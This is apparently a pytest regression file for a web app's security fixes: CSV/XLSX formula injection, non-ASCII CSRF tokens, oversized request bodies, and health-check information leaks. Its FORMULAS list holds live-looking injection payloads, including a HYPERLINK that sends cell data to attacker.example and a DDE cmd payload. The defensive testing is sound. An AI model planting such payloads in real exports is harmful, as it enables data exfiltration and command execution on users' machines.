"""Attacks on the web app that got through once (issue 14), each kept closed: formulas in the
spreadsheet export, a forged non-ASCII CSRF token, bodies larger than their limit with or
without a Content-Length, and what the public health check tells a stranger."""

from __future__ import annotations

import zipfile
from collections.abc import Iterator
from datetime import timedelta
from io import BytesIO

import pytest
from openpyxl import load_workbook
from sqlalchemy import update

from tdkt.persistence.models import HumanTask
from tests.integration import web_cases
from tests.integration.conftest import new_case
from tests.integration.web_cases import Site
from tests.integration.web_support import Browser

site = web_cases.site  # the installation these tests share (a fixture)

FORMULAS = ['=HYPERLINK("http://attacker.example/?x="&A1,"Bấm vào đây")', "=cmd|' /C calc'!A0", "+1+1", "-2+3",
            "@SUM(1,1)"]


def test_a_nominee_named_like_a_formula_is_text_in_the_dashboard_export(site: Site) -> None:
    rt = site.rt
    for name in FORMULAS:
        new_case(rt, nominee=name)
    with rt.uow() as uow:  # their submission is overdue: the export lists them by name
        uow.session.execute(update(HumanTask).values(due_at=rt.now() - timedelta(days=3)))
        uow.commit()
    head = site.as_("truongban")
    r = head.get("/dashboard.xlsx")
    assert r.status_code == 200, r.text
    book = zipfile.ZipFile(BytesIO(r.content))
    sheets = [book.read(n).decode() for n in book.namelist() if n.startswith("xl/worksheets/")]
    assert all("<f>" not in s for s in sheets)  # no formula anywhere
    cells = [c for ws in load_workbook(BytesIO(r.content)) for row in ws.iter_rows() for c in row]
    shown = {c.value: c.data_type for c in cells if isinstance(c.value, str)}
    assert {name: shown.get(name) for name in FORMULAS} == dict.fromkeys(FORMULAS, "s")


@pytest.mark.parametrize("token", ["đ" * 43, "\u00e9", "токен", "🔑"])
def test_a_non_ascii_csrf_token_is_refused_like_any_wrong_token(site: Site, token: str) -> None:
    b = site.as_("clerk")
    b.get("/inbox")
    r = b.post("/delegations", {"csrf_token": token})
    assert r.status_code == 403
    assert "content-security-policy" in r.headers  # the ordinary refusal page, not a bare 500
    assert "Phiên làm việc đã hết hạn" in r.text


def _chunks(total: int, size: int = 64 * 1024) -> Iterator[bytes]:
    sent = 0
    while sent < total:
        yield b"x" * min(size, total - sent)
        sent += size


@pytest.mark.parametrize("path", ["/login", "/delegations"])
def test_a_body_without_content_length_is_cut_at_its_limit(site: Site, path: str) -> None:
    """Chunked transfer declares no length: the limit counts what arrives (1 MB for a form)."""
    b = Browser(site.rt, app=site.app)
    b.get("/login")
    r = b.client.post(path, content=_chunks(5 * 1024 * 1024),
                      headers={"content-type": "application/x-www-form-urlencoded"})
    assert r.status_code == 413
    assert "quá lớn" in r.text


def test_an_upload_over_the_limit_is_refused_while_it_streams(site: Site) -> None:
    """multipart: up to the upload limit (1 MB in these tests) plus 1 MB, then 413."""
    b = Browser(site.rt, app=site.app)
    b.get("/login")
    r = b.client.post("/login", content=_chunks(3 * 1024 * 1024),
                      headers={"content-type": "multipart/form-data; boundary=xyz"})
    assert r.status_code == 413


def test_a_small_form_still_goes_through(site: Site) -> None:
    b = Browser(site.rt, app=site.app)
    b.get("/login")
    r = b.post("/login", {"username": "khong.co.ai", "password": "sai", "next": "/inbox"})
    assert r.status_code in (200, 401, 422) and "quá lớn" not in r.text


def test_the_public_health_check_tells_no_versions_hosts_or_errors(site: Site) -> None:
    r = Browser(site.rt, app=site.app).get("/healthz")
    assert r.status_code == 200
    body = r.json()
    assert body["status"] == "ok"
    assert all(set(c) == {"name", "ok"} for c in body["checks"])
    assert "mới nhất" not in r.text and "0005" not in r.text


def test_the_public_health_check_hides_the_database_server_when_it_is_down(site: Site, monkeypatch) -> None:
    from tdkt.config import Settings

    broken = Settings(database_url="postgresql+psycopg://tdkt:secret@db.internal.example:5999/tdkt",
                      var_dir=site.rt.settings.var_dir)
    monkeypatch.setattr(site.rt, "settings", broken)
    r = Browser(site.rt, app=site.app).get("/healthz")
    assert r.status_code == 503 and r.json()["status"] == "failing"
    assert "db.internal.example" not in r.text and "5999" not in r.text and "secret" not in r.text
